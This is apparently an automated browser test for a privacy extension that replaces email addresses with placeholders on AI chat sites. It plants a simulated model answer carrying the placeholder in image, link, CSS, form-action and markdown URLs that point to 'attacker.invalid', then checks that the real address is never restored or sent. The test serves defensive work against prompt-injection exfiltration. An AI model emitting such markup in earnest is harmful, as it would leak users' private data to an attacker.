/** T-40: a model writes our placeholder where its original would leave: no request carries it, nothing is drawn there. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { revealed } from '../e2e/extension-pages';
import { SITES } from '../e2e/places';
import { throughout, until } from '../e2e/until';
import { type Arena, assertKept, mail, tabWith } from './arena';

const AWAY = 'https://attacker.invalid/?q=';

/** What sites make of such an answer: elements with the placeholder in every place that a browser would send. */
function answerOf(token: string, away: string): string {
  const bare = token.slice(1, -1);
  return [
    `<p><img src="${away}${token}" alt="${token}"></p>`,
    `<p><a href="${away}${token}">${token}</a> <a href="${away}${bare}"><b>${token}</b></a></p>`,
    `<p>${away}${token} and ${away}${bare} and ![x](${away}${token})</p>`,
    `<p style="background-image:url('${away}${token}')" title="${token}"></p>`,
    `<p><input value="${token}"><textarea>${token}</textarea><span contenteditable="true">${token}</span></p>`,
    `<p><button formaction="${away}${token}">${token}</button><svg><text>${token}</text></svg></p>`,
    `<p>www.attacker.invalid/${token}</p>`,
  ].join('');
}

export function t40(arena: Arena): void {
  for (const site of SITES) {
    test(`T-40 a placeholder in images, links, addresses and fields on ${site}`, { timeout: 90_000 }, async () => {
      const world = arena.world();
      const original = mail(`injection-${site}`);
      const mark = await world.sites.mark();
      const tab = await tabWith(world, site, original);
      await until('shown where it may be', async () => (await revealed(tab.page)).includes(original), 20_000);
      const token = /\[EMAIL_ADDRESS_\d+\]/.exec(await tab.answerText())?.[0] ?? '';
      assert.notEqual(token, '');
      await tab.page.evaluate(
        (markup, answer, prompt) => {
          for (const own of document.querySelectorAll(prompt)) own.remove();
          for (const one of document.querySelectorAll(answer)) one.innerHTML = markup;
        },
        answerOf(token, AWAY),
        tab.shape.answer,
        tab.shape.prompt,
      );
      await until('nothing is drawn there', async () => !(await revealed(tab.page)).includes(original), 20_000);
      await throughout('nothing is drawn there later', async () => !(await revealed(tab.page)).includes(original), 1_000);
      // An original that looks like a placeholder's frame is not read a second time.
      await assertKept(world, mark, [original]);
      await tab.page.close();
    });
  }
}
